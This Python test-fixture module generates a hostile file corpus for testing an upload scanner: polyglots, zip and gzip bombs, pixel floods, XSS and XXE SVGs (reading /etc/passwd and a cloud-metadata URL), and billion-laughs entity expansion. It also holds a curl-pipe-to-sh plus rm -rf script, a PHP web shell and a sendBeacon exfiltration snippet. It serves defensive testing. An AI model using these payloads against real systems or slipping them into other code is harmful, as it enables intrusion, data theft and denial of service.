"""The hostile corpus: every sample is made here, in code, from the genuine
samples of tests/samples.py or from a few documented header bytes. Nothing is
checked in. tests/hostile/test_corpus.py proves each sample is what its name
says (the zip part of a polyglot opens, a bomb expands to what it claims, a
flood declares its size), so a refusal is never the accident of a broken
sample.
"""
from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from pathlib import Path
from tempfile import TemporaryDirectory

from PIL import Image, PngImagePlugin

from tests.images import encode, png_header_only
from tests.samples import ELF_HEADER, MZ_HEADER, SAMPLES_DIR, TEXT, make_sample

KiB = 1024
MiB = 1024 * KiB
GiB = 1024 * MiB


@functools.lru_cache(maxsize=None)
def genuine(ext: str) -> bytes:
    with TemporaryDirectory() as tmp:
        return make_sample(ext, Path(tmp)).read_bytes()


def zip_of(entries, method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return out.getvalue()


# --- polyglots: one file, two readings ------------------------------------

MANIFEST = "Manifest-Version: 1.0\nMain-Class: Evil\n"
# A class file's magic and version (Java 8); the body does not matter to a
# scanner that looks at entry names, only to a JVM, which never sees it here.
CLASS_FILE = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 56
PAYLOAD = "payload.txt"


def small_zip() -> bytes:
    return zip_of([(PAYLOAD, "unzipped from a polyglot\n")])


def jar() -> bytes:
    """A runnable-looking JAR as zipfile writes it (manifest first, no 0xCAFE
    extra field): libmagic calls it application/zip."""
    return zip_of([("META-INF/MANIFEST.MF", MANIFEST), ("Evil.class", CLASS_FILE)])


def jar_as_the_jar_tool_makes_it() -> bytes:
    """`jar cf` marks its first entry (META-INF/) with the 0xCAFE extra field:
    libmagic calls that application/java-archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        first = zipfile.ZipInfo("META-INF/")
        first.extra = b"\xfe\xca\x00\x00"
        zf.writestr(first, b"")
        zf.writestr("META-INF/MANIFEST.MF", MANIFEST)
        zf.writestr("Evil.class", CLASS_FILE)
    return out.getvalue()


def jpeg_zip() -> bytes:
    """A JPEG with a zip appended: image viewers read from the front, unzip
    from the back (the end-of-central-directory record), and both succeed."""
    return genuine("jpg") + small_zip()


def gif_jar() -> bytes:
    """A GIFAR: a GIF with a JAR appended."""
    return genuine("gif") + jar()


def pdf_zip() -> bytes:
    return genuine("pdf") + small_zip()


HTML_PAYLOAD = "<html><body><script>alert(document.domain)</script></body></html>"


def html_in_png() -> bytes:
    """A genuine PNG whose tEXt chunk carries an HTML page: a browser that
    sniffed it would find markup in the first KiB."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML_PAYLOAD)
    return encode(Image.open(io.BytesIO(genuine("png"))), "PNG", pnginfo=info)


# --- zip-based "documents" -----------------------------------------------

def docx_parts() -> list[tuple[str, bytes]]:
    """The parts of the genuine docx (LibreOffice's order: [Content_Types].xml last)."""
    with zipfile.ZipFile(SAMPLES_DIR / "sample.docx") as zf:
        return [(name, zf.read(name)) for name in zf.namelist()]


def docx_that_is_a_jar() -> bytes:
    """A JAR renamed to .docx: the manifest comes first, then the document's parts."""
    return zip_of([("META-INF/MANIFEST.MF", MANIFEST), *docx_parts(), ("Evil.class", CLASS_FILE)])


def docx_carrying_a_jar() -> bytes:
    """A docx/jar polyglot: the document's parts first (libmagic sees a Word
    document and Word opens it), then a manifest and a class (`java -jar` runs it)."""
    return zip_of([*docx_parts(), ("META-INF/MANIFEST.MF", MANIFEST), ("Evil.class", CLASS_FILE)])


def docx_with_a_large_part_first(size: int = 200 * KiB) -> bytes:
    """A genuine-shaped docx whose thumbnail comes before the word/ parts: libmagic
    5.44 cannot look far enough to name it and says application/zip."""
    import os

    parts = dict(docx_parts())
    order = ["[Content_Types].xml", "docProps/thumbnail.jpeg", "_rels/.rels", "word/document.xml",
             "word/styles.xml", "docProps/core.xml", "docProps/app.xml"]
    parts["docProps/thumbnail.jpeg"] = os.urandom(size)
    return zip_of([(name, parts[name]) for name in order])


# --- pixel floods: huge declared dimensions, tiny files -------------------

def png_flood(side: int = 60000) -> bytes:
    return png_header_only(side, side)


def gif_flood(width: int = 65535, height: int = 65535) -> bytes:
    """A GIF whose logical screen is width x height (the format's maximum by
    default) around one 1x1 frame."""
    screen = struct.pack("<HHBBB", width, height, 0, 0, 0)
    frame = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + frame + b";"


def webp_flood(width: int = 16384, height: int = 16384) -> bytes:
    """A genuine 1x1 lossless WebP whose VP8L header is rewritten to declare
    width x height (16384 is the format's maximum side)."""
    data = encode(Image.new("RGB", (1, 1), "red"), "WEBP", lossless=True)
    start = data.index(b"VP8L") + 8
    assert data[start] == 0x2F  # the VP8L signature byte
    (bits,) = struct.unpack("<I", data[start + 1:start + 5])
    bits = (bits & ~((1 << 28) - 1)) | (width - 1) | ((height - 1) << 14)
    return data[:start + 1] + struct.pack("<I", bits) + data[start + 5:]


def declared_size(data: bytes) -> tuple[int, int]:
    """What the header says, read without decoding (for the corpus test)."""
    if data.startswith(b"\x89PNG"):
        return struct.unpack(">II", data[16:24])
    if data.startswith(b"GIF8"):
        return struct.unpack("<HH", data[6:10])
    if data[8:12] == b"WEBP":
        start = data.index(b"VP8L") + 9
        (bits,) = struct.unpack("<I", data[start:start + 4])
        return (bits & 0x3FFF) + 1, ((bits >> 14) & 0x3FFF) + 1
    raise ValueError("not a flood sample")


# --- decompression bombs --------------------------------------------------

@functools.lru_cache(maxsize=None)
def deflated_zeros(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``size`` zero bytes (a whole number of MiB) and
    its CRC-32, made without holding the expanded bytes: a fully flushed
    deflate block of 1 MiB of zeros is the same bytes every time, so it is
    compressed twice and repeated (about 1 KiB per MiB: a ratio near 1000:1)."""
    assert size % MiB == 0 and size > 0
    block = bytes(MiB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeat = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.flush()
    crc = 0
    for _ in range(size // MiB):
        crc = zlib.crc32(block, crc)
    return first + repeat * (size // MiB - 1) + end, crc


def gzip_bomb(size: int = GiB) -> bytes:
    """A gzip member that expands to ``size`` zero bytes (RFC 1952)."""
    raw, crc = deflated_zeros(size)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no name, mtime 0, max compression
    return header + raw + struct.pack("<II", crc, size & 0xFFFFFFFF)


def zip_bomb(size: int = GiB, name: str = "zeros.bin") -> bytes:
    """A zip with one deflated entry of ``size`` zero bytes (< 4 GiB: no zip64)."""
    assert size < 4 * GiB
    raw, crc = deflated_zeros(size)
    encoded = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), size, len(encoded), 0)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw), size,
                          len(encoded), 0, 0, 0, 0, 0, 0) + encoded
    body = local + encoded + raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
    return body + central + end


def nested_zip_bomb(inner_size: int = GiB, fanout: int = 16) -> bytes:
    """42.zip's idea on two levels: ``fanout`` zips of ``fanout`` copies of a
    zip bomb each (fanout**2 x inner_size expanded; 256 GiB by default)."""
    inner = zip_bomb(inner_size)
    middle = zip_of([(f"{i:x}.zip", inner) for i in range(fanout)])
    return zip_of([(f"{i:x}.zip", middle) for i in range(fanout)])


def expanded_size(data: bytes, depth: int = 0) -> int:
    """What a recursive unzip would write, from the directories alone (nothing is inflated
    beyond the nested zips themselves, which are small)."""
    total = 0
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for info in zf.infolist():
            if info.filename.endswith(".zip") and depth < 4:
                total += expanded_size(zf.read(info), depth + 1)
            else:
                total += info.file_size
    return total


# --- SVG: active content in an allowed image type -------------------------

SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'

SVG_SCRIPT = (SVG_OPEN + '<script type="text/javascript">alert(document.cookie)</script>'
              '<rect width="10" height="10"/></svg>\n').encode()

SVG_EVENT_HANDLERS = (SVG_OPEN.replace("<svg ", '<svg onload="alert(1)" ')
                      + '<rect width="10" height="10" onmouseover="alert(2)"/>'
                      '<image href="x" onerror="alert(3)"/></svg>\n').encode()

SVG_JAVASCRIPT_URLS = (SVG_OPEN + '<a href="javascript:alert(1)"><rect width="10" height="10"/></a>'
                       '<a xlink:href="javascript:alert(2)"><text y="10">click</text></a>'
                       '<animate attributeName="href" to="javascript:alert(3)"/></svg>\n').encode()

SVG_FOREIGN_HTML = (SVG_OPEN + '<foreignObject width="10" height="10">'
                    '<body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/>'
                    '</body></foreignObject></svg>\n').encode()

# External entities: a parser that resolved them would read a local file (or
# fetch a URL from inside the network) into the document.
SVG_XXE = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<!DOCTYPE svg [\n'
           '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
           '  <!ENTITY ssrf SYSTEM "http://169.254.169.254/latest/meta-data/">\n'
           ']>\n' + SVG_OPEN + '<text y="10">&xxe;&ssrf;</text></svg>\n').encode()


def svg_billion_laughs(levels: int = 10, fanout: int = 10) -> bytes:
    """XML entity expansion: lol{levels-1} expands to fanout**levels copies of
    "lol" (10**10 by default, ~30 GB of text from a file under 1 KiB)."""
    entities = ['  <!ENTITY lol0 "lol">']
    for i in range(1, levels):
        entities.append(f'  <!ENTITY lol{i} "' + f"&lol{i - 1};" * fanout + '">')
    return ('<?xml version="1.0"?>\n<!DOCTYPE svg [\n' + "\n".join(entities) + "\n]>\n"
            + SVG_OPEN + f'<text y="10">&lol{levels - 1};</text></svg>\n').encode()


ACTIVE_SVGS = {
    "script": SVG_SCRIPT,
    "event-handlers": SVG_EVENT_HANDLERS,
    "javascript-urls": SVG_JAVASCRIPT_URLS,
    "foreign-html": SVG_FOREIGN_HTML,
    "xxe": SVG_XXE,
    "billion-laughs": svg_billion_laughs(),
}


# --- programs and pages under harmless names ------------------------------

PE = MZ_HEADER + b"\x00" * 300
ELF = ELF_HEADER + b"\x00" * 300
# Mach-O headers (mach-o/loader.h, mach-o/fat.h): magic, cputype, cpusubtype, filetype...
MACHO_64 = bytes.fromhex("cffaedfe" "07000001" "03000000" "02000000" "10000000") + b"\x00" * 300
MACHO_32 = bytes.fromhex("cefaedfe" "07000000" "03000000" "02000000" "10000000") + b"\x00" * 300
# A universal binary: 0xcafebabe, 2 architectures, the first x86_64 (big-endian fields).
MACHO_FAT = bytes.fromhex("cafebabe" "00000002" "01000007" "00000003") + b"\x00" * 300
SHELL_SCRIPT = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\nrm -rf \"$HOME\"\n"
PYTHON_SCRIPT = b"#!/usr/bin/env python3\nimport os\nos.system('id')\n"
PHP_SCRIPT = b"<?php system($_GET['cmd']); ?>\n"
HTML_PAGE = b"<!DOCTYPE html><html><head><script>alert(document.cookie)</script></head><body>hi</body></html>\n"
HTML_FRAGMENT = b"<script>fetch('/files').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>\n"
# Markup that libmagic does not call HTML (no tag it keys on at the start):
# stored as text, and only ever served as text/plain with nosniff.
HTML_LIBMAGIC_MISSES = b"<img src=x onerror=alert(document.domain)>\n"


# --- text that made libmagic slow -------------------------------------------

def _filled(unit: bytes, size: int = 64 * KiB) -> bytes:
    return (unit * (size // len(unit) + 1))[:size]


# 64 KiB heads that libmagic calls text, on which its text tests (with its own
# defaults, libmagic 5.44) cost 10 to 300 ms of CPU against ~2 ms for prose: a
# run of whitespace is walked by search tests, and ^[[:space:]]*-style regexes
# start again at every blank line in it.
SLOW_FOR_LIBMAGIC = {
    "newlines": _filled(b"\n"),
    "carriage-returns": _filled(b"\r"),
    "crlf": _filled(b"\r\n"),
    "spaces": _filled(b" "),
    "tabs": _filled(b"\t"),
    "lines-of-one-space": _filled(b" \n"),
    "utf-16-newlines": b"\xff\xfe" + _filled("\n".encode("utf-16-le"), 64 * KiB - 2),
    "prose-then-spaces": _filled(b" ", 64 * KiB - 2 * KiB) + _filled(TEXT.encode(), 2 * KiB),
    "module-exports": _filled(b"module.exports"),
}
# Odd but cheap for libmagic: long lines, deep nesting, many short lines, and
# text that starts like many formats at once.
ODD_TEXT = {
    "one-long-line": _filled(b"a"),
    "nested-brackets": _filled(b"["),
    "nested-json": _filled(b'{"a":'),
    "short-lines": _filled(b"a\n"),
    "many-formats": _filled(b"<?xml version='1.0'?>\n%!PS-Adobe-3.0\n{\"a\": [1, 2]}\nBEGIN:VCARD\n"
                            b"From: a@b.invalid\n#include <stdio.h>\ndef f(): pass\n\\documentclass{article}\n"
                            b".TH A 1\n<html><body></body></html>\n"),
}
